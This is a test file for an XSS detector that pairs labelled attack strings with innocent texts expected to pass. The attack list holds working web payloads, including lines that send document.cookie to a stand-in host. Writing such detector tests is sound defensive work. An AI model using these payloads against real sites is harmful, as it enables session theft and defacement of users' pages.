import assert from "node:assert/strict";
import { pointsIn, rulesIn } from "../testing.ts";
import { xss } from "./detect.ts";

/** Rule and text, one attack a line. */
const ATTACKS: readonly (readonly [string, string])[] = [
  ["script-tag", "<script>f()</script>"],
  ["script-tag", "<SCRIPT/x src=//h.example/a.js>"],
  ["script-tag", "<<script>go()//<</script>"],
  ["script-tag", "<!<script>go()</script>"],
  ["script-tag", "<scr<script>ipt>go()</script>"],
  ["script-tag", '<p title="</p><script>go()</script>">'],
  ["script-tag", "<svg:script href=data:,go() />"],
  ["event-handler", '<sVg/x=">"/oNloaD=confirm()//'],
  ["event-handler", "<x onpointerrawupdate=f()>hover"],
  ["event-handler", "<img src=x onerror=f()"],
  ["event-handler", "<video><source onerror='f()'>"],
  ["event-handler", "<a\nonmouseover\n=\n'f()'>"],
  ["event-handler", "<img src=x\\x09onerror=alert(7)>"],
  ["script-url", "<a href=javascript:f()>go</a>"],
  ["script-url", '<a href="jav&#x09;ascript&colon;f()">go</a>'],
  ["script-url", "<form><button formaction='java\nscript:f()'>"],
  ["script-url", "javascript:alert(document.domain)"],
  ["script-code", "<b ng-app ng-click=$event.path|orderBy:'(y=go)(1)'>"],
  ["script-url", "see [my page](javascript:go(this)) today"],
  ["script-url", "<iframe src=data:text/html;base64,PGI+>"],
  ["active-element", "<iframe src=//elsewhere.example/>"],
  ["active-element", "<base href='//elsewhere.example/'>"],
  ["active-element", "<meta http-equiv=refresh content='0;url=//elsewhere.example'>"],
  ["active-element", "<object data='//elsewhere.example/x.swf'>"],
  ["animated-attribute", "<svg><a><animate attributeName=href values=x /></a>"],
  ["active-css", "<b style='width:ex/**/pression(f())'>"],
  ["active-css", "<style>b{-moz-binding:url(//h.example/x)}</style>"],
  ["tag-breakout", '"><h1>defaced</h1>'],
  ["tag-breakout", "'/><img src=//h.example/?"],
  ["element-breakout", "</title><h1>defaced"],
  ["attribute-breakout", '" onfocus=go() autofocus x="'],
  ["attribute-breakout", "x onmouseover=alert(1)"],
  ["string-breakout", "'-alert(1)-'"],
  ["string-breakout", "';fetch('//h.example?'+document.cookie)//"],
  ["string-breakout", '"+top["al"+"ert"](1)+"'],
  ["string-breakout", "\\');prompt(1);//"],
  ["script-code", "alert`1`"],
  ["script-code", "window['al'+'ert'](1)"],
  ["script-code", "eval(atob('YWxlcnQoMSk='))"],
  ["script-code", "onerror=alert;throw 1"],
  ["script-code", "\\u0061lert(1)"],
  ["script-code", "[].constructor.constructor('return 1')()"],
  ["script-code", "location.href='//h.example/?'+document.cookie"],
  ["punctuation-code", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]"],
  ["numeric-link", "<a href=http://0x7f.1/>x</a>"],
  ["obsolete-element", "<marquee>hi"],
  ["spaced-tag", "< script >go()< /script >"],
  ["probe", '\'";!--"<q>=&{()}'],
  ["document-url", "data:text/html,<b>x"],
];

/** One innocent text a line: no point at level 1. */
const INNOCENT: readonly string[] = [
  '<p>Hi <strong>Ana</strong>,<br>see <a href="https://example.com/o?x=1&amp;y=2">your order</a></p>',
  '<figure><img src="https://cdn.example/a.png" alt="on=off"><figcaption>A &lt; B</figcaption></figure>',
  '<ul><li style="color:red;background:url(https://cdn.example/b.png)">one</li></ul>',
  '<table><tr><td colspan="2">x</td></tr></table>',
  '<iframe width="560" src="https://www.youtube.com/embed/abc?rel=0" allowfullscreen></iframe>',
  '<a href="javascript:void(0)">menu</a>',
  '<svg viewBox="0 0 9 9"><path d="M0 0L9 9"/></svg>',
  "I <3 this, and a < b while c > d",
  "Map<string, number> and Promise<void>",
  "Ana Lima <ana@mail.example>, Bo <bo@mail.example>",
  "if (a<b && c>d) return x=y",
  'Use onclick="..." sparingly',
  "The <script> tag goes in <head>",
  "Put `<script>alert(1)</script>` into the comment box to see whether the page escapes it.",
  "Here is the page that I was talking about yesterday:\n```html\n<img src=x onerror=alert(1)>\n```\nany idea?",
  "javascript: the good parts",
  "Alert(1) collar with a bell",
  '<input value="x" onfocus="this.select()">',
  "[menu](javascript:void(0))",
  "frame.eval('total = price * 2', inplace=True)",
  "- [x] done\n- [ ] later\n\nembed it so:\n\n```html\n<script src=/a.js defer></script>\n```\n\n| a | b |\n|---|---|",
  "eval() is evil, said Crockford",
  "document.cookie and localStorage compared",
  "The functions prompt(), alert() and confirm() block the page until they are closed.",
  "const onAdd = fn(); cart.push('apple'); expect(onAdd).toHaveBeenCalledWith(1);",
  "TypeError: x is not a function at window.onload (https://app.example/a.js:1:20)",
  "it's 5 o'clock; don't alert (anyone)",
  "O'Brien, Alert",
  "node -e \"console.log(require('./package.json').version)\"",
  "data:image/png;base64,iVBORw0KGgo=",
  "data:image/svg+xml;base64,PHN2Zy8+",
  "rock 'n' roll; top [ten] (2026)",
  "See <https://docs.example/on=off> for more",
  'pr_shop">MamaBear</a>',
  "query Q($id: ID!) { alert(id: $id) { name } }",
  "fix(alert): don't show it twice",
  "/collections/all?sort=price&filter.tag=alert",
  "<script@mail.example>",
];

for (const [rule, text] of ATTACKS) {
  Deno.test(`xss.${rule} catches ${text.slice(0, 60)}`, () => {
    assert.ok(rulesIn(xss, text).includes(`xss.${rule}`), `${text}: ${rulesIn(xss, text)}`);
  });
}

Deno.test("xss passes innocent texts", () => {
  for (const text of INNOCENT) assert.equal(pointsIn(xss, text), 0, `${text}: ${rulesIn(xss, text)}`);
  assert.equal(INNOCENT.length, 38);
  assert.equal(ATTACKS.length, 49);
});
